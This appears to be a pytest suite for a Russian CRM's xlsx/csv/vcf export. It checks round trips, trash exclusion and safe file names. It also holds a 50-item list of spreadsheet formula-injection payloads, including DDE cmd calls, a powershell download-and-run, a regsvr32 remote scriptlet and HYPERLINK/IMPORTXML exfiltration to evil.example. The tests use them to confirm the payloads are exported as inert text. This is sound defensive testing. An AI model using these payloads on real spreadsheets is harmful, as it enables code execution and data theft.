"""Export of contacts, organizations, deals and tasks to xlsx, csv and vcf, on every engine:
written and read back with the same values, Cyrillic intact, the trash left out, formula
payloads kept as text, cancel leaving no file, and contacts export -> import round trips."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from crm_desktop.config import AppPaths
from crm_desktop.domain.kinds import ActivityKind, EntityKind, PhoneKind, StageKind
from crm_desktop.errors import UserError
from crm_desktop.importing.guards import DEFAULT_LIMITS
from crm_desktop.importing.vcard import COLUMNS as VCARD_COLUMNS
from crm_desktop.importing.vcard import read_vcards
from crm_desktop.importing.vocabulary import suggest_target
from crm_desktop.services import activities, contacts, deals
from crm_desktop.services.deals import DealInput, LostOutcome, PipelineEdit, StageEdit
from crm_desktop.services.dto import EmailInput, OrganizationInput, PersonInput, PhoneInput
from crm_desktop.services.exporting import (
    FORMATS,
    check_format,
    export_file,
    export_json,
    suggested_filename,
)
from crm_desktop.services.exporting.tables import CONTACT_COLUMNS, ORGANIZATION_COLUMNS
from crm_desktop.services.exporting.vcf import escape, fold
from crm_desktop.services.importing import run_import
from crm_desktop.services.progress import Cancelled
from crm_desktop.services.workspace import Workspace
from crm_desktop.storage.models import LossReason, Organization, Person

INN = "7707083893"
NOTE = "Звонить после 18:00; важно, срочно\nвторая строка \\ с обратной чертой"


@dataclass
class Base:
    org: int
    lonely_org: int
    petrov: int
    smith: int
    deal_open: int
    deal_lost: int


def _add(ws: Workspace, *objs: Any) -> list[int]:
    with ws.write() as uow:
        uow.session.add_all(objs)
        uow.commit()
        return [getattr(o, "id", 0) for o in objs]


@pytest.fixture
def base(ws: Workspace) -> Base:
    org = contacts.create_organization(
        ws,
        OrganizationInput(
            name="ООО «Ромашка»",
            inn=INN,
            city="Москва",
            address="ул. Тверская, д. 1",
            phones=[PhoneInput("+7 495 123-45-67 доб. 12", PhoneKind.WORK)],
            emails=[EmailInput("info@romashka.ru")],
            tags=["vip"],
        ),
    ).id
    lonely = contacts.create_organization(
        ws,
        OrganizationInput(
            name="ИП Кузнецов",
            city="Тверь",
            phones=[PhoneInput("+7 4822 55-66-77")],
            emails=[EmailInput("kuznetsov@mail.ru")],
        ),
    ).id
    petrov = contacts.create_person(
        ws,
        PersonInput(
            last_name="Петров",
            first_name="Пётр",
            middle_name="Иванович",
            organization_id=org,
            position="Директор",
            city="Москва",
            notes=NOTE,
            phones=[
                PhoneInput("+7 912 345-67-89", PhoneKind.MOBILE, comment="после обеда"),
                PhoneInput("+7 495 111-22-33 доб. 7", PhoneKind.WORK),
            ],
            emails=[EmailInput("petrov@romashka.ru"), EmailInput("petr@почта.рф")],
            tags=["ЛПР", "Бухгалтерия"],
            birthday=date(1980, 5, 17),
        ),
    ).id
    contacts.create_person(
        ws,
        PersonInput(
            full_name="Сидорова Анна", organization_id=org, phones=[PhoneInput("8 912 000-11-22")]
        ),
    )
    smith = contacts.create_person(
        ws,
        PersonInput(
            first_name="John",
            last_name="Smith",
            emails=[EmailInput("john@example.com")],
            phones=[PhoneInput("12-34")],
        ),
    ).id
    gone_org = contacts.create_organization(ws, OrganizationInput(name="ООО «Удалённая»")).id
    gone = contacts.create_person(ws, PersonInput(full_name="Удалёнов Иван", city="Тула")).id
    contacts.move_to_trash(ws, EntityKind.ORGANIZATION, gone_org)
    contacts.move_to_trash(ws, EntityKind.PERSON, gone)

    view = deals.save_pipeline(
        ws,
        PipelineEdit(
            None,
            "Продажи",
            [
                StageEdit(None, "Переговоры", StageKind.OPEN, 50),
                StageEdit(None, "Успешно", StageKind.WON, 100),
                StageEdit(None, "Проиграно", StageKind.LOST, 0),
            ],
        ),
    )
    stages = {s.name: s.id for s in view.stages}
    deal_open = deals.create_deal(
        ws,
        DealInput(
            "Поставка станков",
            view.id,
            stages["Переговоры"],
            organization_id=org,
            person_id=petrov,
            amount_minor=1_234_567_89,
            expected_close_on=date(2026, 12, 25),
        ),
    ).id
    deal_lost = deals.create_deal(
        ws, DealInput("Сервис", view.id, stages["Переговоры"], person_id=smith, amount_minor=500)
    ).id
    (reason,) = _add(ws, LossReason(name="Дорого"))
    deals.move_deal(ws, deal_lost, stages["Проиграно"], outcome=LostOutcome(reason))
    trashed_deal = deals.create_deal(
        ws, DealInput("Удалённая сделка", view.id, stages["Переговоры"], organization_id=org)
    ).id
    deals.move_deal_to_trash(ws, trashed_deal)

    activities.create_activity(
        ws,
        activities.ActivityInput(
            "Позвонить Петрову",
            kind=ActivityKind.CALL_OUT,
            start_at=datetime(2026, 11, 24, 9, 30, tzinfo=UTC),
            person_id=petrov,
            deal_id=deal_open,
        ),
    )
    activities.create_activity(
        ws,
        activities.ActivityInput("Подготовить КП", due_on=date(2026, 11, 30), organization_id=org),
    )
    return Base(org, lonely, petrov, smith, deal_open, deal_lost)


# ------------------------------------------------------------------ reading back


def read_xlsx(path: Path) -> list[list[Any]]:
    from openpyxl import load_workbook

    book = load_workbook(path, read_only=True)
    try:
        return [list(row) for row in book.worksheets[0].iter_rows(values_only=True)]
    finally:
        book.close()


def read_csv(path: Path, language: str) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM for Excel"
    text = raw.decode("utf-8-sig")
    return list(
        csv.reader(io.StringIO(text, newline=""), delimiter=";" if language == "ru" else ",")
    )


def as_dicts(rows: list[list[Any]]) -> list[dict[str, Any]]:
    head = rows[0]
    return [
        dict(zip(head, [*row, *[None] * (len(head) - len(row))], strict=True)) for row in rows[1:]
    ]


def _export(ws: Workspace, tmp_path: Path, what: str, fmt: str, language: str = "ru") -> Path:
    path = tmp_path / f"out-{what}-{language}.{fmt}"
    result = export_file(ws, what, fmt, path, language=language)
    assert result.path == path and path.is_file()
    return path


def _rows(
    ws: Workspace, tmp_path: Path, what: str, fmt: str, language: str
) -> list[dict[str, Any]]:
    path = _export(ws, tmp_path, what, fmt, language)
    return as_dicts(read_xlsx(path) if fmt == "xlsx" else read_csv(path, language))


# ------------------------------------------------------------------ contacts


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_contacts_flat_rows_read_back(ws: Workspace, base: Base, tmp_path: Path, fmt: str) -> None:
    rows = _rows(ws, tmp_path, "contacts", fmt, "ru")
    assert list(rows[0]) == [c.title("ru") for c in CONTACT_COLUMNS]
    by_last = {r["Фамилия"] or r["Имя"] or r["Организация"]: r for r in rows}
    # persons of the organization, the organization without people, the person alone
    assert set(by_last) == {"Петров", "Сидорова", "Smith", "ИП Кузнецов"}
    petrov = by_last["Петров"]
    assert (petrov["Имя"], petrov["Отчество"], petrov["Должность"]) == (
        "Пётр",
        "Иванович",
        "Директор",
    )
    guarded = "'" if fmt == "csv" else ""  # csv: text starting with + gets the formula guard
    assert petrov["Телефоны"] == guarded + "+79123456789 (после обеда); +74951112233 доб. 7"
    assert petrov["Эл. почта"] == "petrov@romashka.ru, petr@почта.рф"
    assert petrov["Теги"] == "Бухгалтерия, ЛПР"
    assert petrov["Примечание"].replace("\r\n", "\n") == NOTE
    assert petrov["День рождения"] == (datetime(1980, 5, 17) if fmt == "xlsx" else "17.05.1980")
    assert (petrov["Организация"], str(petrov["ИНН"]), petrov["Город организации"]) == (
        "ООО «Ромашка»",
        INN,
        "Москва",
    )
    assert petrov["Телефоны организации"] == guarded + "+74951234567 доб. 12"
    assert petrov["Эл. почта организации"] == "info@romashka.ru"
    assert petrov["Теги организации"] == "vip"
    lonely = by_last["ИП Кузнецов"]
    assert not lonely["Фамилия"] and lonely["Город организации"] == "Тверь"
    assert not by_last["Smith"]["Организация"]


def test_trashed_records_are_never_exported(ws: Workspace, base: Base, tmp_path: Path) -> None:
    texts = []
    for what, formats in FORMATS.items():
        for fmt in formats:
            if fmt == "ics":
                continue
            path = _export(ws, tmp_path, what, fmt)
            if fmt == "xlsx":
                texts.append(json.dumps(read_xlsx(path), default=str, ensure_ascii=False))
            else:
                texts.append(path.read_text(encoding="utf-8-sig"))
    joined = "\n".join(texts)
    assert "Ромашка" in joined and "Поставка станков" in joined
    for gone in ("Удалённая", "Удалёнов", "Удалённая сделка"):
        assert gone not in joined


def test_organizations_only(ws: Workspace, base: Base, tmp_path: Path) -> None:
    rows = _rows(ws, tmp_path, "organizations", "xlsx", "en")
    assert list(rows[0]) == [c.title("en") for c in ORGANIZATION_COLUMNS]
    assert [(r["Organization"], r["City"]) for r in rows] == [
        ("ООО «Ромашка»", "Москва"),
        ("ИП Кузнецов", "Тверь"),
    ]
    assert rows[0]["INN"] == INN and rows[0]["Tags"] == "vip"


def test_exported_contact_headers_map_back_without_manual_mapping() -> None:
    skipped = {"org_city", "org_tags"}  # the importer has no organization city/tags field
    for language in ("en", "ru"):
        for column in (*CONTACT_COLUMNS, *ORGANIZATION_COLUMNS):
            target = suggest_target(column.title(language))
            if column.key in skipped:
                assert target is None, column
            else:
                assert target is not None, (language, column.key)
                expected = column.key.replace("phones", "phone").replace("emails", "email")
                expected = {"organization": "organization"}.get(expected, expected)
                assert target.field.value == expected, (language, column.key, target)


# ------------------------------------------------------------------ deals and tasks


@pytest.mark.parametrize(("fmt", "language"), [("xlsx", "ru"), ("csv", "ru"), ("csv", "en")])
def test_deals_read_back(
    ws: Workspace, base: Base, tmp_path: Path, fmt: str, language: str
) -> None:
    rows = _rows(ws, tmp_path, "deals", fmt, language)
    assert len(rows) == 2
    first, lost = rows
    if language == "ru":
        assert first["Сделка"] == "Поставка станков"
        assert (first["Клиент"], first["Контактное лицо"]) == (
            "ООО «Ромашка»",
            "Петров Пётр Иванович",
        )
        assert (first["Воронка"], first["Этап"], first["Статус"]) == (
            "Продажи",
            "Переговоры",
            "В работе",
        )
        amount = first["Сумма"]
        assert amount == (1234567.89 if fmt == "xlsx" else "1234567,89")
        assert first["Валюта"] == "RUB"
        assert first["Ожидаемое закрытие"] == (
            datetime(2026, 12, 25) if fmt == "xlsx" else "25.12.2026"
        )
        assert (lost["Статус"], lost["Причина проигрыша"], lost["Клиент"]) == (
            "Проиграна",
            "Дорого",
            "Smith John",
        )
    else:
        assert (first["Deal"], first["Amount"], first["Expected close"]) == (
            "Поставка станков",
            "1234567.89",
            "2026-12-25",
        )
        assert (lost["Status"], lost["Lost reason"]) == ("Lost", "Дорого")


def test_xlsx_cells_are_typed(ws: Workspace, base: Base, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = _export(ws, tmp_path, "deals", "xlsx")
    book = load_workbook(path)
    sheet = book.active
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.b
    header = [c.value for c in sheet[1]]
    amount = sheet.cell(2, header.index("Сумма") + 1)
    close = sheet.cell(2, header.index("Ожидаемое закрытие") + 1)
    assert amount.data_type == "n" and amount.number_format == "#,##0.00"
    assert close.is_date and close.number_format == "DD.MM.YYYY"
    assert sheet.cell(2, 1).data_type == "s"


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_tasks_read_back(ws: Workspace, base: Base, tmp_path: Path, fmt: str) -> None:
    rows = _rows(ws, tmp_path, "tasks", fmt, "ru")
    by_subject = {r["Тема"]: r for r in rows}
    call = by_subject["Позвонить Петрову"]
    assert call["Вид"] == "Исходящий звонок"
    local = datetime(2026, 11, 24, 9, 30, tzinfo=UTC).astimezone().replace(tzinfo=None)
    assert call["Начало"] == (local if fmt == "xlsx" else local.strftime("%d.%m.%Y %H:%M"))
    assert call["Клиент"] == "Петров Пётр Иванович"
    assert call["Сделка"] == "Поставка станков"
    todo = by_subject["Подготовить КП"]
    assert todo["Срок"] == (datetime(2026, 11, 30) if fmt == "xlsx" else "30.11.2026")
    assert todo["Клиент"] == "ООО «Ромашка»" and todo["Вид"] == "Задача"
    assert not todo["Выполнено"]


def test_format_combinations_are_checked() -> None:
    with pytest.raises(UserError, match="deals cannot be exported as vcf"):
        check_format("deals", "vcf")
    with pytest.raises(UserError):
        check_format("contacts", "ics")
    assert check_format("tasks", "ics") == ("tasks", "ics")


# ------------------------------------------------------------------ vCard


def test_vcard_folding_and_escaping() -> None:
    assert escape("a,b;c\\d\r\ne") == "a\\,b\\;c\\\\d\\ne"
    line = "NOTE:" + "Щ" * 100
    folded = fold(line)
    parts = folded.split("\r\n")
    assert all(len(p.encode()) <= 75 for p in parts)
    assert all(p.startswith(" ") for p in parts[1:])
    assert "".join(p[1:] if i else p for i, p in enumerate(parts)) == line


def test_vcard_reads_back_through_our_importer(ws: Workspace, base: Base, tmp_path: Path) -> None:
    path = _export(ws, tmp_path, "contacts", "vcf")
    data = path.read_bytes()
    assert b"\r\n" in data and all(len(line) <= 75 for line in data.split(b"\r\n"))
    rows, truncated = read_vcards(data.decode("utf-8"), DEFAULT_LIMITS)
    assert not truncated
    cards = [dict(zip(VCARD_COLUMNS, cells, strict=True)) for _, cells in rows[1:]]
    by_name = {c["Full name"] or c["Organization"]: c for c in cards}
    petrov = by_name["Петров Пётр Иванович"]
    assert (petrov["Last name"], petrov["First name"], petrov["Middle name"]) == (
        "Петров",
        "Пётр",
        "Иванович",
    )
    assert petrov["Organization"] == "ООО «Ромашка»" and petrov["Job title"] == "Директор"
    assert petrov["Mobile phone"] == "+79123456789 (после обеда)"
    assert petrov["Work phone"] == "+74951112233 доб. 7"
    assert by_name["Smith John"]["Other phone"] == "12-34"
    assert petrov["E-mail"] == "petrov@romashka.ru; petr@почта.рф"
    assert petrov["Birthday"] == "1980-05-17" and petrov["City"] == "Москва"
    assert petrov["Note"] == NOTE
    assert petrov["Categories"] == "Бухгалтерия; ЛПР"
    # the organization without people: an organization-only card
    lonely = by_name["ИП Кузнецов"]
    assert lonely["Organization"] == "ИП Кузнецов"
    assert not lonely["Last name"] and not lonely["Full name"]
    assert "X-ABShowAs:COMPANY" in data.decode()
    assert "Удалён" not in data.decode()


# ------------------------------------------------------------------ round trip


def _contents(ws: Workspace) -> tuple[set[Any], set[Any]]:
    """(organizations, persons) of the live base as comparable tuples."""
    with ws.read() as uow:
        s = uow.session
        orgs = {
            (
                o.name,
                o.inn,
                o.address,
                frozenset((p.e164 or p.raw, p.extension) for p in o.phones),
                frozenset(e.address for e in o.emails),
            )
            for o in s.scalars(sa.select(Organization).where(Organization.deleted_at.is_(None)))
        }
        persons = {
            (
                p.full_name,
                p.organization.name if p.organization else None,
                p.position,
                p.city,
                p.notes,
                frozenset((ph.e164 or ph.raw, ph.extension, ph.comment) for ph in p.phones),
                frozenset(e.address for e in p.emails),
                frozenset(t.name for t in p.tags),
            )
            for p in s.scalars(sa.select(Person).where(Person.deleted_at.is_(None)))
        }
    return orgs, persons


@pytest.mark.parametrize(("fmt", "language"), [("xlsx", "ru"), ("csv", "en")])
def test_contacts_round_trip_into_an_empty_base(
    ws: Workspace, base: Base, tmp_path: Path, fmt: str, language: str
) -> None:
    path = _export(ws, tmp_path, "contacts", fmt, language)
    before = _contents(ws)
    target = Workspace.open(
        f"sqlite:///{tmp_path / 'copy.sqlite3'}",
        paths=AppPaths.resolve(tmp_path / "d2"),
        create=True,
    )
    try:
        result = run_import(target, path)
        assert not result.plan.resolution.rejected
        assert _contents(target) == before
        assert result.persons_created == 3 and result.organizations_created == 2
    finally:
        target.close()


def _import_copy(path: Path, tmp_path: Path) -> tuple[set[Any], set[Any]]:
    target = Workspace.open(
        f"sqlite:///{tmp_path / 'copy.sqlite3'}",
        paths=AppPaths.resolve(tmp_path / "d2"),
        create=True,
    )
    try:
        run_import(target, path)
        return _contents(target)
    finally:
        target.close()


def test_vcard_round_trip_of_people(ws: Workspace, base: Base, tmp_path: Path) -> None:
    _orgs, persons = _import_copy(_export(ws, tmp_path, "contacts", "vcf"), tmp_path)
    _orgs0, persons0 = _contents(ws)
    people = {p for p in persons if p[1] != "ИП Кузнецов"}  # see the next test
    assert people == persons0


def test_vcard_organization_card_imports_as_an_organization(
    ws: Workspace, base: Base, tmp_path: Path
) -> None:
    orgs, persons = _import_copy(_export(ws, tmp_path, "contacts", "vcf"), tmp_path)
    assert {p[0] for p in persons} == {"Петров Пётр Иванович", "Сидорова Анна", "Smith John"}
    assert {o[0] for o in orgs} == {"ООО «Ромашка»", "ИП Кузнецов"}


# ------------------------------------------------------------------ formula injection (issue 9)

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '=HYPERLINK("https://evil.example")',
    '=IMPORTXML(CONCAT("http://evil/?v=",A2),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll'!''",
    "@cmd|'/c calc'!A1",
    "+cmd|'/c calc'!A1",
    "-cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t",
    "=",
    "+",
    "-",
    "@",
    "==1",
    "=-1",
    "=+1",
    "+7 (912) 345-67-89",
    "-10%",
    "@mention",
    "=1+1;=2+2",
    "=1+1,=2+2",
    '="quoted"',
    "=A1&A2",
    '=INDIRECT("A1")',
    "=SUM(A1:A10)",
    "=rand()",
    "=ＣＭＤ|' /C calc'!A0",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "   =1+1",
    " +1",
    "\u00a0=1+1",
    "'=1+1",
    "''=1+1",
    "=1+1\n=2+2",
    "Привет =1+1",
    '=ПРОПИСН("а")',
    "=1+1 # хвост, с запятой; и точкой с запятой",
]


_LETTERS = "абвгдежзиклмнопрстуфхцчшэюя"


def _surname(n: int) -> str:
    """Distinct surnames (digits would not count in the name rules: one person)."""
    return f"Тест{_LETTERS[n // len(_LETTERS)]}{_LETTERS[n % len(_LETTERS)]}ов".capitalize()


def _hostile_base(ws: Workspace) -> dict[str, str | None]:
    """The payloads as names' notes and positions; returns last name -> notes as stored."""
    org = contacts.create_organization(ws, OrganizationInput(name="ООО Тест")).id
    for n, payload in enumerate(PAYLOADS):
        contacts.create_person(
            ws,
            PersonInput(
                last_name=_surname(n),
                first_name="Иван",
                position=payload,
                notes=payload,
                organization_id=org,
            ),
        )
    with ws.read() as uow:
        stored = dict(uow.session.execute(sa.select(Person.last_name, Person.notes)).all())
    dangerous = [v for v in stored.values() if v and v.startswith(("=", "+", "-", "@", "\t"))]
    assert len(dangerous) >= 40, "the payloads reach the export as formula-like text"
    return stored


def test_fifty_formula_payloads_come_back_as_text(ws: Workspace, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    assert len(PAYLOADS) == 50
    stored = _hostile_base(ws)
    for language in ("ru", "en"):
        notes = "Примечание" if language == "ru" else "Notes"
        last = "Фамилия" if language == "ru" else "Last name"
        sheet = load_workbook(_export(ws, tmp_path, "contacts", "xlsx", language)).active
        assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
        header = [c.value for c in sheet[1]]
        checked = 0
        for row in sheet.iter_rows(min_row=2):
            name, cell = row[header.index(last)].value, row[header.index(notes)]
            if stored[name] is None:
                continue
            assert cell.data_type == "s", (cell.value, cell.data_type)
            assert cell.value == stored[name]  # the text as typed, a string cell
            checked += 1
        assert checked >= 45

        rows = as_dicts(read_csv(_export(ws, tmp_path, "contacts", "csv", language), language))
        for row in rows:
            text = stored[row[last]]
            if text is None:
                continue
            if text.startswith(("=", "+", "-", "@", "\t", "\r", "\n")):
                assert row[notes] == "'" + text, (text, row[notes])  # the apostrophe guard
            else:
                assert row[notes] == text


def _as_imported(text: str | None) -> str | None:
    """What our importer makes of a cell: trimmed, one leading apostrophe dropped."""
    if text is None:
        return None
    text = text.strip()
    if text[:1] in ("'", "\u2019"):
        text = text[1:].strip()
    return text or None


def test_formula_payloads_import_back_unchanged(ws: Workspace, tmp_path: Path) -> None:
    stored = _hostile_base(ws)
    for fmt in ("csv", "xlsx"):
        path = _export(ws, tmp_path, "contacts", fmt, "ru")
        target = Workspace.open(
            f"sqlite:///{tmp_path / f'copy-{fmt}.sqlite3'}",
            paths=AppPaths.resolve(tmp_path / "d2"),
            create=True,
        )
        try:
            run_import(target, path)
            with target.read() as uow:
                got = dict(uow.session.execute(sa.select(Person.last_name, Person.notes)).all())
        finally:
            target.close()
        assert got == {name: _as_imported(text) for name, text in stored.items()}, fmt


# ------------------------------------------------------------------ files


def test_cancel_leaves_no_file(ws: Workspace, base: Base, tmp_path: Path) -> None:
    for n in range(30):
        contacts.create_person(ws, PersonInput(full_name=f"Тестов {n}", organization_id=base.org))

    def cancel(done: int, total: int) -> None:
        raise Cancelled

    for fmt in ("xlsx", "csv", "vcf"):
        out = tmp_path / f"cancelled.{fmt}"
        with pytest.raises(Cancelled):
            export_file(ws, "contacts", fmt, out, progress=cancel)
        assert list(tmp_path.glob("*cancelled*")) == [] and list(tmp_path.glob(".*partial")) == []


def test_progress_is_reported_per_batch(ws: Workspace, base: Base, tmp_path: Path) -> None:
    seen: list[tuple[int, int]] = []
    export_file(
        ws, "contacts", "csv", tmp_path / "a.csv", progress=lambda d, t: seen.append((d, t))
    )
    assert seen and seen[-1][0] == seen[-1][1] == 5  # 2 live organizations, 3 live persons
    assert all(d <= t for d, t in seen)


def test_existing_file_is_replaced_atomically(ws: Workspace, base: Base, tmp_path: Path) -> None:
    out = tmp_path / "a.xlsx"
    out.write_bytes(b"old")
    export_file(ws, "contacts", "xlsx", out)
    assert out.read_bytes()[:2] == b"PK"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_bad_targets_are_clear_errors(ws: Workspace, tmp_path: Path) -> None:
    with pytest.raises(UserError, match="is a folder"):
        export_file(ws, "contacts", "csv", tmp_path)
    with pytest.raises(UserError, match="does not exist"):
        export_file(ws, "contacts", "csv", tmp_path / "no" / "such" / "a.csv")


def test_suggested_file_name_is_safe() -> None:
    day = date(2026, 11, 23)
    assert suggested_filename("contacts", "xlsx", "ru", today=day) == "Контакты 2026-11-23.xlsx"
    assert suggested_filename("deals", "csv", "en", today=day) == "Deals 2026-11-23.csv"
    name = suggested_filename("contacts", "csv", "en", today=day, title="../../etc/pass:wd\\CON")
    assert "/" not in name and "\\" not in name and ":" not in name
    assert name.endswith(" 2026-11-23.csv")
    # a device name is only reserved alone: with the date it is an ordinary name
    assert suggested_filename("contacts", "vcf", "en", today=day, title="CON") == (
        "CON 2026-11-23.vcf"
    )


def test_json_export_is_unchanged(ws: Workspace, base: Base) -> None:
    out = io.StringIO()
    counts = export_json(ws, out)
    data = json.loads(out.getvalue())
    assert counts == {"organizations": 2, "persons": 3}
    assert [o["name"] for o in data["organizations"]] == ["ООО «Ромашка»", "ИП Кузнецов"]
    assert [p["full_name"] for p in data["persons_without_organization"]] == ["Smith John"]
